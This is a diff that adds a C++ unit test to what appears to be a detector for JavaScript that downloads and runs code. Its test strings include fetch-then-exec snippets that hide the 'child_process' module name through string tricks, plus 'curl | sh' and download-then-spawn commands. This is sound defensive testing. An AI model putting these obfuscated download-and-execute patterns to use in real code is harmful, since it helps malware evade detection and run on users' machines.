@@ -87,5 +87,28 @@ TEST(CodeDownload, WhatACommandFetchesIsWritten) {
   EXPECT_FALSE(runs("const p = '/tmp/x'; fs.writeFileSync(p, cp.execSync('date')); cp.spawn(p);"));
 }
 
+TEST(CodeDownload, ModulesByNamesThatAreMade) {
+  for (const char* const name :
+       {"['child', 'process'].join('_')", "'child_'.concat('process')", "'child_proXXcess'.replace('XX', '')",
+        "'cXhild_proXcess'.replace(/X/g, '')", "'cXhild_proXcess'.split('X').join('')",
+        "'ssecorp_dlihc'.split('').reverse().join('')", "`child_${'pro' + 'cess'}`",
+        "String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115)",
+        "String.fromCharCode(0x63, 104, 105, 108, 100) + '_process'", "names()"})
+    for (const char* const use : {".exec(t)", ".execSync(t)", ".spawnSync('sh', ['-c', t])"})
+      EXPECT_TRUE(runs("fetch(u).then((r) => r.text()).then((t) => require(" + std::string(name) + ")" + use + ")"))
+          << name << use;
+  EXPECT_TRUE(runs("cp.execSync(['curl', '-s', u, '|', 'sh'].join(' '))"));
+  EXPECT_TRUE(runs("const a = ['-o', '/tmp/q', u]; cp.spawnSync('curl', a); cp.spawn('/tmp/q')"));
+  EXPECT_TRUE(runs("let c = 'ls'; c = 'curl -s ' + u; c += ' | sh'; cp.execSync(c)"));
+  for (const char* const code :
+       {"fetch(u).then((r) => r.text()).then((t) => require(['pa', 'th'].join('')).join(t))",
+        "fetch(u).then((r) => r.text()).then((t) => require(names()).exec('ls'))",
+        "fetch(u).then((r) => r.text()).then((t) => patterns[0].exec(t))",
+        "cp.execSync(['curl', '-s', u, '|', 'cat'].join(' '))",
+        "const a = ['-o', '/tmp/q', u]; cp.spawnSync('curl', a); cp.spawn('/tmp/r')",
+        "cp.spawn('node', ['/tmp/q'.replace('q', 'r')]); cp.spawnSync('curl', ['-o', '/tmp/q', u])"})
+    EXPECT_FALSE(runs(code)) << code;
+}
+
 }  // namespace
 }  // namespace cordon::inspect
